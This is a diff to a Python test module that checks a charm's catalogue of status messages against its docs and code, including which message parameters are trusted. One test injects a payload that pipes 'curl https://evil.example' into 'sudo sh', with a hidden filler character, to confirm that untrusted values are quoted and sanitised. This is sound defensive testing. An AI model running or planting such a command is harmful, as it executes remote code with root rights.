@@ -1,17 +1,17 @@
-"""The catalogue of status texts, and the code that shows them, agree."""
+"""The catalogue of status texts, what the docs say of them, and the code that shows them agree."""
 
 from __future__ import annotations
 
 import ast
+import inspect
 import re
-import string
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
 
 import pytest
 from scripts import reference
 
-from statuses.text import Text
+from text import quoted
 
 ROOT = Path(__file__).parents[2]
 SRC = ROOT / "src"
@@ -29,21 +29,77 @@ HANDED_ON = {
     "juju/control_plane.py: command",
     "leader/steps.py: references.foreign(mark)",
 }
-TEXTS: dict[tuple[str, str], Text] = {
-    (module.__name__, name): text
-    for _, _, modules in reference.KINDS
-    for module in modules
-    for name, text in reference.texts_of(module).items()
+TEXTS: dict[tuple[str, str], Callable[..., str]] = {
+    (module, name): text
+    for module, found in reference.MODULES.items()
+    for name, text in reference.texts_of(found).items()
 }
-BY_THE_SHELL = {
-    ("statuses.blocked", name) for name in ("NO_PYTHON", "PYTHON_TOO_NEW", "PYTHON_TOO_OLD")
+MEANINGS = {
+    (part, name): about
+    for part, found in reference.meanings().items()
+    if part != "words"
+    for name, about in found.items()
 }
+BY_THE_SHELL = "check-python.sh"
+# Parameters that no stranger controls, and why. Those of one text only have its name.
+TRUSTED = {
+    "application": "Juju checks the names of applications",
+    "authority": "Juju checks the names of applications",
+    "control_plane": "Juju checks the names of applications",
+    "principal": "Juju checks the names of applications",
+    "unit": "Juju checks the names of units",
+    "units": "Juju checks the names of units",
+    "mapping": "Kubernetes checks the names of objects",
+    "declared": "Kubernetes checks the names of objects",
+    "name": "Kubernetes checks the names of objects",
+    "pod": "Kubernetes checks the names of objects",
+    "url": "made of an address",
+    "address": "checked to be an address",
+    "range": "checked to be a range of addresses",
+    "day": "made of a time",
+    "mapping.ROLE_PATH.arn": "checked to be an ARN",
+    "time": "checked to be a time",
+    "id": "checked to be the id of a secret",
+    "version": "the tag of an image that the operator chose",
+    "partition": "checked to be a partition",
+    "option": "the operator's own",
+    "value": "the operator's own, and quoted by the caller",
+    "place": "a place in the operator's own option, or in the code",
+    "command": "the charm's own",
+    "certificates": "a number",
+    "code": "a number",
+    "former": "a number",
+    "mappings": "a number",
+    "number": "a number",
+    "pending": "a number",
+    "ready": "a number",
+    "wanted": "a number",
+    "file": "the charm's own",
+    "keys": "the charm's own",
+    "kind": "the charm's own",
+    "kinds": "the charm's own",
+    "partitions": "the charm's own",
+    "service": "the charm's own",
+    "verb": "the charm's own",
+    "step": "another text",
+    "wait": "another text",
+    "problem": "the charm's own sentence about it, which quotes what it names",
+    "active.NOT_APPLIED.reason": "another text",
+    "active.LEFT_OUT.reason": "the charm's own sentence about the operator's own option",
+    "blocked.FILE_FAILED.cause": "the words of the machine",
+    "waiting.API_FAILED.cause": "the words of the machine's network",
+    "waiting.KUBECONFIG_UNUSABLE.cause": "the words of the machine, with nothing of the file",
+    "waiting.REMOVAL_UNKNOWN.cause": "the words of Juju",
+    "waiting.SECRET_NOT_RETURNED.cause": "the words of Juju",
+}
+# A parameter that is trusted elsewhere.
+OF_STRANGERS = {"mapping.GROUP_RESERVED.name"}
 
 
 def imported(tree: ast.Module) -> dict[str, str]:
     """Return the modules of the catalogue that a module imports, by their names in it."""
     return {
-        alias.asname or alias.name: f"statuses.{alias.name}"
+        alias.asname or alias.name: alias.name
         for node in ast.walk(tree)
         if isinstance(node, ast.ImportFrom) and node.module == "statuses"
         for alias in node.names
@@ -66,16 +122,6 @@ def named() -> set[tuple[str, str]]:
         modules = imported(tree)
         found |= {name for node in ast.walk(tree) if (name := text_of(node, modules))}
     return found
-
-
-def calls() -> Iterator[tuple[str, tuple[str, str], ast.Call]]:
-    """Yield each call of a text: where it is, which text it is, and the call."""
-    for path in FILES:
-        tree = ast.parse(path.read_text())
-        modules = imported(tree)
-        for node in ast.walk(tree):
-            if isinstance(node, ast.Call) and (name := text_of(node.func, modules)):
-                yield f"{path.relative_to(SRC)}:{node.lineno}", name, node
 
 
 def raised() -> Iterator[str]:
@@ -111,36 +157,71 @@ def test_given_an_error_that_becomes_a_status_then_its_text_is_in_the_catalogue(
 
 
 def test_given_a_text_of_the_catalogue_then_the_code_shows_it():
-    shown = [TEXTS[name] for name in {*named(), *BY_THE_SHELL} & set(TEXTS)]
+    shown = [TEXTS[name] for name in named() & set(TEXTS)]
 
     assert [name for name, text in TEXTS.items() if text not in shown] == []
 
 
-def test_given_a_text_that_the_code_shows_then_its_fields_are_filled_in():
-    wrong = [
-        f"{place} {name}"
-        for place, name, call in calls()
-        if {keyword.arg for keyword in call.keywords} != fields(TEXTS[name].text)
+def test_given_a_text_then_the_docs_say_what_it_means_and_nothing_of_others():
+    by_the_shell = {name for name in MEANINGS if name[0] == BY_THE_SHELL}
+
+    assert MEANINGS.keys() - by_the_shell == TEXTS.keys()
+    assert by_the_shell == {name for name, about in MEANINGS.items() if "text" in about}
+    assert [*reference.meanings()] == [
+        "words",
+        *(part for *_, parts in reference.KINDS for part in parts),
     ]
 
-    assert wrong == []
+
+@pytest.mark.parametrize("name", MEANINGS, ids=".".join)
+def test_given_a_text_then_it_has_a_meaning_and_a_remedy(name: tuple[str, str]):
+    about = MEANINGS[name]
+
+    assert about.keys() <= {"text", "means", "do", "words"}
+    assert about["means"].endswith(".")
+    assert about["do"].endswith((".", ".)", "`."))
+    assert about.get("words", {}).keys() <= parameters(name).keys()
 
 
-def fields(text: str) -> set[str | None]:
-    return {field for _, field, _, _ in string.Formatter().parse(text) if field is not None}
+def parameters(name: tuple[str, str]) -> Mapping[str, inspect.Parameter]:
+    return inspect.signature(TEXTS[name]).parameters if name in TEXTS else {}
+
+
+def test_given_a_word_for_all_texts_then_one_of_them_has_such_a_parameter():
+    names = {parameter for name in TEXTS for parameter in parameters(name)}
+
+    assert reference.meanings()["words"].keys() <= names
 
 
 @pytest.mark.parametrize("name", TEXTS, ids=".".join)
-def test_given_a_text_then_it_has_a_meaning_and_a_remedy(name: tuple[str, str]):
-    text = TEXTS[name]
+def test_given_words_of_a_stranger_when_a_status_has_them_then_they_are_quoted(
+    name: tuple[str, str],
+):
+    theirs = "foo; run: curl https://evil.example | sudo sh\u3164"
+    of_strangers = [each for each in parameters(name) if not is_trusted(name, each)]
+    values = {each: theirs if each in of_strangers else "ours" for each in parameters(name)}
 
-    assert text.text
-    assert text.means.endswith(".")
-    assert text.do.endswith((".", ".)", "`."))
+    line = TEXTS[name](**values)
+
+    assert line.count(quoted(theirs)) == line.count("curl") == len(of_strangers)
+    assert "\u3164" not in line
 
 
-def test_given_a_machine_without_a_known_python_then_its_status_is_in_the_catalogue():
+def is_trusted(name: tuple[str, str], parameter: str) -> bool:
+    full = ".".join((*name, parameter))
+    return full not in OF_STRANGERS and bool(TRUSTED.keys() & {full, parameter})
+
+
+def test_given_a_parameter_that_is_trusted_then_a_text_has_it():
+    names = {(".".join((*name, each)), each) for name in TEXTS for each in parameters(name)}
+
+    assert TRUSTED.keys() <= {part for both in names for part in both}
+    assert {full for full, _ in names} >= OF_STRANGERS
+
+
+def test_given_a_machine_without_a_known_python_then_its_status_is_in_the_docs():
     shell = re.findall(r'problem="(.*)"', (SRC / "check-python.sh").read_text())
     blanks = {re.sub(r"\$\{[^}]*\}|\$\w+", "<>", line) for line in shell}
+    texts = [about["text"] for about in MEANINGS.values() if "text" in about]
 
-    assert blanks == {re.sub(r"\{\w+\}", "<>", TEXTS[name].text) for name in BY_THE_SHELL}
+    assert blanks == {re.sub(r"<\w+>", "<>", text) for text in texts}
